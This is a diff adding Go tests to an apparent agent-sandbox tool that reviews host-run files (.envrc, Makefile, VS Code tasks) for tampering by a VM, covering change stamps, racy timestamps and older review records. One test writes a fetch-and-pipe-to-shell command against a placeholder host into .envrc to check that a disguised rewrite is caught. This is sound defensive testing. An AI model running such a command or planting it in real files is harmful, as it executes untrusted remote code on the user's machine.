@@ -2,11 +2,16 @@ package outer
 
 import (
 	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/agents-sandbox/asb/internal/folderfs"
 	"github.com/agents-sandbox/asb/schema"
 )
 
@@ -90,4 +95,143 @@ func TestReviewHostRun(t *testing.T) {
 	if _, changes := review(); len(changes) != 1 || changes[0].Change != "removed" {
 		t.Errorf("a removed Makefile: %+v", changes)
 	}
+}
+
+// reviewFixture is a folder whose workspace/ holds files, reviewed once
+// (the baseline), and its review.
+type reviewFixture struct {
+	t     *testing.T
+	dir   string
+	table schema.HostRunTable
+}
+
+func newReviewFixture(t *testing.T, files map[string]string) *reviewFixture {
+	t.Helper()
+	f := &reviewFixture{t: t, dir: t.TempDir(), table: schema.HostRunTable(schema.BaseHostRun)}
+	for rel, data := range files {
+		f.write(rel, data)
+	}
+	if err := ReviewBaseline(f.dir, "", func() (schema.HostRunTable, error) { return f.table, nil }); err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+func (f *reviewFixture) path(rel string) string {
+	return filepath.Join(f.dir, WorkspaceDir, rel)
+}
+
+func (f *reviewFixture) write(rel, data string) {
+	f.t.Helper()
+	if err := os.MkdirAll(filepath.Dir(f.path(rel)), 0o755); err != nil {
+		f.t.Fatal(err)
+	}
+	if err := os.WriteFile(f.path(rel), []byte(data), 0o644); err != nil {
+		f.t.Fatal(err)
+	}
+}
+
+// review runs a review and returns what it printed and each change by path.
+func (f *reviewFixture) review() (string, map[string]HostRunChange) {
+	f.t.Helper()
+	var out bytes.Buffer
+	changes, err := ReviewHostRun(f.dir, "", f.table, &out)
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	byPath := map[string]HostRunChange{}
+	for _, c := range changes {
+		byPath[c.Path] = c
+	}
+	return out.String(), byPath
+}
+
+// record is the review's record.
+func (f *reviewFixture) record() map[string]reviewed {
+	f.t.Helper()
+	raw, err := os.ReadFile(filepath.Join(f.dir, ".asb", "review", "workspace.json"))
+	if err != nil {
+		f.t.Fatal(err)
+	}
+	var rec map[string]reviewed
+	if err := json.Unmarshal(raw, &rec); err != nil {
+		f.t.Fatal(err)
+	}
+	return rec
+}
+
+// notRacy waits until what was just written is no longer racy for a
+// review (racyNs).
+func notRacy() { time.Sleep(2 * racyNs) }
+
+// A file rewritten with the same size and its mtime put back (touch -r) is
+// listed: its change time moved. An unchanged stamp is not read again; one
+// taken while the file was racy is not kept.
+func TestReviewStamp(t *testing.T) {
+	f := newReviewFixture(t, nil)
+	f.write(".envrc", "export A=harmless\n")
+	// Racy: written just before the review, which keeps no stamp.
+	if _, changes := f.review(); changes[".envrc"].Change != "new" {
+		t.Fatalf("a new .envrc: %+v", changes)
+	}
+	if s := f.record()[".envrc"].Stamp; s != (folderfs.Stamp{}) {
+		t.Errorf("a racy file's stamp was kept: %+v", s)
+	}
+	notRacy()
+	reads := reviewReads.Load()
+	if _, changes := f.review(); len(changes) != 0 {
+		t.Errorf("an unchanged .envrc: %+v", changes)
+	}
+	if reviewReads.Load() != reads+1 {
+		t.Errorf("a file without a stamp was not read again")
+	}
+	if f.record()[".envrc"].Stamp == (folderfs.Stamp{}) {
+		t.Fatal("no stamp kept once the file is not racy")
+	}
+	reads = reviewReads.Load()
+	if _, changes := f.review(); len(changes) != 0 || reviewReads.Load() != reads {
+		t.Errorf("an unchanged stamp: %+v, %d reads", changes, reviewReads.Load()-reads)
+	}
+	// The VM's rewrite: same size, the old times put back.
+	fi, err := os.Stat(f.path(".envrc"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.write(".envrc", "curl x.example|sh\n")
+	if err := os.Chtimes(f.path(".envrc"), fi.ModTime(), fi.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+	notRacy()
+	if _, changes := f.review(); changes[".envrc"].Change != "changed" {
+		t.Errorf("a same-size rewrite with its mtime put back: %+v", changes)
+	}
+}
+
+// A record of an older asb (size, mtime and hash, no stamp) lists nothing
+// that did not change: each file is read again and its hash compared.
+func TestReviewOldRecord(t *testing.T) {
+	f := newReviewFixture(t, map[string]string{"Makefile": "all:\n", ".vscode/tasks.json": "{}\n"})
+	record := filepath.Join(f.dir, ".asb", "review", "workspace.json")
+	old := `{
+ ".vscode/tasks.json": {"kind": "file", "size": 3, "mtime": 1, "sha256": "` + sha256hex("{}\n") + `"},
+ "Makefile": {"kind": "file", "size": 5, "mtime": 1, "sha256": "` + sha256hex("all:\n") + `"}
+}
+`
+	if err := os.WriteFile(record, []byte(old), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	notRacy()
+	if out, changes := f.review(); len(changes) != 0 || out != "" {
+		t.Errorf("after an older record: %q %+v", out, changes)
+	}
+	for p, v := range f.record() {
+		if v.Stamp == (folderfs.Stamp{}) {
+			t.Errorf("%s: no stamp in the record written anew", p)
+		}
+	}
+}
+
+func sha256hex(s string) string {
+	sum := sha256.Sum256([]byte(s))
+	return hex.EncodeToString(sum[:])
 }
